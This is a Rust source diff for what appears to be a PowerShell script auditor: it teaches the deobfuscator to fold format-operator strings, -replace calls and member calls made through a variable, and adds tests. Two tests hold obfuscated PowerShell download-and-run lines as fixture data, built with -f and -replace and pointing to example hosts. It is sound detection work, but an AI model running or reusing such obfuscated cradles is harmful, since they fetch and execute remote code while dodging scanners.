@@ -30,6 +30,9 @@ struct Patterns {
     join: Regex,
     concat: Regex,
     member: Regex,
+    member_literal: Regex,
+    format: Regex,
+    replace: Regex,
     invoke: Regex,
     call_literal: Regex,
     assign: Regex,
@@ -45,9 +48,12 @@ fn patterns() -> Option<&'static Patterns> {
             join: Regex::new(&format!(r#"(?i)\(\s*({lits})\s*\)\s*-join\s*(?:''|""|\(\s*(?:''|"")\s*\))|-join\s*\(\s*({lits})\s*\)"#)).ok()?,
             concat: Regex::new(&format!(r"({LIT})\s*\+\s*({LIT})")).ok()?,
             member: Regex::new(&format!(r"\.\(\s*({LIT})\s*\)")).ok()?,
+            member_literal: Regex::new(&format!(r"\.({LIT})\(")).ok()?,
+            format: Regex::new(&format!(r"(?i)({LIT})\s*-f\s*({lits}|{LIT})")).ok()?,
+            replace: Regex::new(&format!(r"(?i)({LIT})\s*-c?replace\s*({LIT})(?:\s*,\s*({LIT}))?")).ok()?,
             invoke: Regex::new(r"(?i)\.([A-Za-z_]\w*)\.invoke\(").ok()?,
             call_literal: Regex::new(&format!(r"(^|[|;{{(]\s*)[&.]\s*\(?\s*({LIT})(?:\s*\))?")).ok()?,
-            assign: Regex::new(&format!(r"^\s*\$([A-Za-z_]\w*)\s*=\s*({LIT})\s*;?\s*$")).ok()?,
+            assign: Regex::new(&format!(r"^\s*\$([A-Za-z_]\w*)\s*=\s*\(?\s*({LIT})\s*\)?\s*;?\s*$")).ok()?,
             alias: Regex::new(&format!(r"(?i)(?:^|[;{{]\s*)(?:set-alias|new-alias|sal|nal)\s+(?:-name\s+)?({LIT}|[\w-]+)\s+(?:-value\s+)?({LIT}|[\w-]+)")).ok()?,
         })
     });
@@ -92,6 +98,9 @@ fn worth_folding(text: &str) -> bool {
         "\"+",
         "\" +",
         ".(",
+        " -f ",
+        "replace",
+        ".$",
     ]
     .iter()
     .any(|w| lower.contains(w))
@@ -128,9 +137,19 @@ fn fold_once(p: &Patterns, s: &str) -> String {
     let s = p.concat.replace_all(&s, |c: &Captures| {
         quote(&format!("{}{}", unquote(&c[1]), unquote(&c[2])))
     });
+    let s = p.format.replace_all(&s, |c: &Captures| {
+        quote(&formatted(unquote(&c[1]), &literals(&c[2])))
+    });
+    let s = p.replace.replace_all(&s, |c: &Captures| {
+        let with = c.get(3).map_or("", |m| unquote(m.as_str()));
+        quote(&replaced(unquote(&c[1]), unquote(&c[2]), with))
+    });
     let s = p
         .member
         .replace_all(&s, |c: &Captures| format!(".{}", unquote(&c[1])));
+    let s = p
+        .member_literal
+        .replace_all(&s, |c: &Captures| format!(".{}(", unquote(&c[1])));
     let s = p
         .invoke
         .replace_all(&s, |c: &Captures| format!(".{}(", &c[1]));
@@ -199,6 +218,45 @@ fn codes(list: &str) -> String {
         .filter_map(|n| n.trim().parse::<u32>().ok())
         .map(|n| char::from_u32(n).unwrap_or('?'))
         .collect()
+}
+
+/// PowerShell's `FORMAT -f a,b`: each `{N}` of the format is the Nth
+/// value (a `{N}` past the values, or with a width, is left).
+fn formatted(format: &str, values: &[&str]) -> String {
+    let mut out = String::with_capacity(format.len());
+    let mut rest = format;
+    while let Some(open) = rest.find('{') {
+        out.push_str(&rest[..open]);
+        let after = &rest[open + 1..];
+        let close = after.find('}');
+        let value =
+            close.and_then(|c| after[..c].parse::<usize>().ok().and_then(|n| values.get(n)));
+        match (close, value) {
+            (Some(c), Some(v)) => {
+                out.push_str(v);
+                rest = &after[c + 1..];
+            }
+            _ => {
+                out.push('{');
+                rest = after;
+            }
+        }
+    }
+    out.push_str(rest);
+    out
+}
+
+/// PowerShell's `TEXT -replace PATTERN, WITH` (a regular expression, at
+/// most 256 bytes; an invalid one replaces nothing).
+fn replaced(text: &str, pattern: &str, with: &str) -> String {
+    let re = regex::RegexBuilder::new(pattern)
+        .case_insensitive(true)
+        .size_limit(1 << 16)
+        .build();
+    match re {
+        Ok(re) if pattern.len() <= 256 => re.replace_all(text, regex::NoExpand(with)).into_owned(),
+        _ => text.to_owned(),
+    }
 }
 
 /// The literals of a comma-separated list, unquoted.
@@ -272,6 +330,36 @@ mod tests {
     fn honest_joins_and_aliases_fold_to_nothing_high() {
         let code = "$name = 'report' + '.csv'\n$dir = ($env:USERPROFILE, 'Documents') -join '\\'\nSet-Alias ll Get-ChildItem\nll $dir\nInvoke-WebRequest -Uri ('https://api.example.com/' + 'v1/items') | ConvertFrom-Json";
         let got = audited(code);
+        assert!(
+            got.iter().all(|(_, s)| *s < crate::audit::Severity::High),
+            "{got:?}"
+        );
+    }
+
+    #[test]
+    fn format_operators_replacements_and_members_by_variable_fold() {
+        let text = "$u = (\"{2}{0}{1}\" -f 'h.example.net','/s.ps1','http://')\n$m = ('{1}{0}' -f 'String','Download')\n$c.$m($u) | &('I#E#X' -replace '#')\n";
+        let folded = fold(text).unwrap_or_default();
+        let last = folded.lines().last().unwrap_or("");
+        assert_eq!(
+            last,
+            "$c.DownloadString('http://h.example.net/s.ps1') | IEX"
+        );
+        assert_eq!(super::formatted("{0}-{1}-{5}", &["a", "b"]), "a-b-{5}");
+        assert_eq!(super::replaced("I#E#X", "#", ""), "IEX");
+        assert_eq!(super::replaced("abc", "(", "x"), "abc");
+    }
+
+    #[test]
+    fn a_download_built_by_the_format_operator_and_run_is_high() {
+        let code = "$u = (\"{3}{0}{2}{1}\" -f '198.51.100','/sig/d.ps1','.33','http://')\n$m = (\"{1}{0}\" -f 'String','Download')\n$ExecutionContext.InvokeCommand.InvokeScript((New-Object Net.WebClient).$m($u))";
+        let got = audited(code);
+        assert!(
+            got.iter().any(|(_, s)| *s == crate::audit::Severity::High),
+            "{got:?}"
+        );
+        let honest = "$name = ('{0}-{1}.csv' -f $env:COMPUTERNAME, (Get-Date -Format yyyyMMdd))\n$line = 'a,b' -replace ',', ';'\nWrite-Host ('Saved {0}' -f $name)";
+        let got = audited(honest);
         assert!(
             got.iter().all(|(_, s)| *s < crate::audit::Severity::High),
             "{got:?}"
